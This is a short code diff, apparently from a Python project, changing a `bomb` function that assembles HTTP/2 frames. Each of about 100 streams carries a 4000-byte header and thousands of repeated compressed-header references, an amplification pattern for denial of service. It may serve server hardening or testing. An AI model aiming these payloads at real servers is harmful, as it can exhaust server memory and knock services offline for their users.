@@ -70,9 +70,9 @@ def block(stream: int, header_block: bytes, flags: int = END_STREAM) -> bytes:
     )
 
 
-def bomb(path: str, method: str = "GET", streams: int = 100, copies: int = 3800, length: int = 4000) -> bytes:
+def bomb(path: str, method: str = "GET", streams: int = 100, copies: int = 3800) -> bytes:
     flags = END_STREAM if method == "GET" else 0
-    first = block(1, request(path, method) + entry(b"x-a", b"a" * length) + NEWEST * copies, flags)
+    first = block(1, request(path, method) + entry(b"x-a", b"a" * 4000) + NEWEST * copies, flags)
     others = [block(2 * at + 1, request(path, method) + NEWEST * copies, flags) for at in range(1, streams)]
     return PREFACE + frame(SETTINGS, 0, 0) + first + b"".join(others)
 
